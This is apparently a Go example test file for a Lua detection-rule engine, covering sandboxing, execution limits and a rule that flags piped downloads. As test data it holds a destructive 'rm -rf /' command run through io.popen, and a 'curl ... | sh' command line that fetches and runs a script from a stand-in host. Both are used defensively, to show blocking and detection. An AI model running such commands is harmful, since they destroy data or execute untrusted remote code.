package lua_test

import (
	"context"
	"errors"
	"fmt"
	"os"

	lua "github.com/kestrel-runtime/lua"
)

// The spec's usage example: an engine with the default configuration
// evaluates a rule against one event.
func Example() {
	schema := lua.NewSchemaRegistry()
	config := lua.DefaultConfig()
	engine, err := lua.NewEngine(config, schema)
	if err != nil {
		panic(err)
	}

	script := `
return function(event)
    local exe = event:get_str(1)
    if exe and (string.contains(exe, "/tmp/") or string.endswith(exe, ".sh")) then
        return true
    end
    return false
end
`

	event, err := lua.NewEventBuilder().
		EventType(1).
		TsMono(1_000_000_000).
		TsWall(1_000_000_000).
		EntityKey(0x123).
		Field(1, lua.String("/tmp/malicious.sh")).
		Build()
	if err != nil {
		panic(err)
	}

	matched, err := engine.Evaluate(context.Background(), script, event)
	if err != nil {
		panic(err)
	}
	fmt.Println(matched)
	// Output: true
}

// Unsafe functions are blocked, with an error that says why.
func ExampleEngine_Evaluate_sandbox() {
	engine, _ := lua.NewEngine(lua.DefaultConfig(), nil)
	event, _ := lua.NewEventBuilder().Build()
	_, err := engine.Evaluate(context.Background(), "io.popen('rm -rf /')", event)
	fmt.Println(err)
	// Output: rule script: script:1:1: native access (FFI) is disabled: 'io' is not available in the sandbox
}

// Budgets are per evaluation; exceeding one is an error the engine
// survives.
func ExampleEngine_Evaluate_limits() {
	config := lua.DefaultConfig()
	config.InstructionLimit = 10_000
	engine, _ := lua.NewEngine(config, nil)
	event, _ := lua.NewEventBuilder().Build()
	_, err := engine.Evaluate(context.Background(), "return function(event) while true do end end", event)
	fmt.Println(errors.Is(err, lua.ErrInstructionLimit))
	// Output: true
}

// A rule table with a schema: field names resolve at compile time, the
// rule only applies to its event types, and the detailed result carries
// the alerts.
func ExampleEngine_LoadRule() {
	schema := lua.NewSchemaRegistry()
	_ = schema.Register(1, "exe", lua.TypeString)
	_ = schema.Register(6, "cmdline", lua.TypeString)
	engine, _ := lua.NewEngine(lua.DefaultConfig(), schema)

	rule, err := engine.LoadRule("curl_pipe_sh", `
return {
    event_types = { 1 },
    severity = "high",
    match = function(event)
        local cmd = event:get_str("cmdline")
        if cmd and regex.match([[(curl|wget)\s[^|]*\|\s*(ba)?sh]], cmd) then
            alert.emit("curl_pipe_sh", "piped download: " .. cmd)
            return true
        end
        return false
    end,
}`)
	if err != nil {
		panic(err)
	}
	event, _ := schema.NewEventBuilder().EventType(1).
		NamedField("exe", lua.String("/bin/sh")).
		NamedField("cmdline", lua.String("sh -c curl -s http://x/i.sh | sh")).
		Build()

	fmt.Println(rule.AppliesTo(event.EventType()), rule.Severity())
	res, err := rule.EvaluateDetailed(context.Background(), event)
	if err != nil {
		panic(err)
	}
	fmt.Println(res.Matched, res.Alerts[0].Message)
	// Output:
	// true high
	// true piped download: sh -c curl -s http://x/i.sh | sh
}

// Exec runs a whole script, as the exec command does.
func ExampleExec() {
	_, err := lua.Exec(context.Background(), lua.ExecOptions{
		Path:   "hello.lua",
		Source: []byte(`print("hello from", arg[0], ...)`),
		Args:   []string{"a", "b"},
		Stdout: os.Stdout,
	})
	if err != nil {
		panic(err)
	}
	// Output: hello from	hello.lua	a	b
}

// Events decode from the JSON-lines format of the run command, with exact
// 64-bit integers.
func ExampleDecodeEventJSON() {
	event, err := lua.DecodeEventJSON([]byte(`{"event_type":1,"ts_wall":1767225600002742581,"fields":{"1":"/tmp/x","2":18446744073709551615}}`), nil)
	if err != nil {
		panic(err)
	}
	v, _ := event.Field(2)
	fmt.Println(event.TsWall(), v)
	// Output: 1767225600002742581 u64 18446744073709551615
}
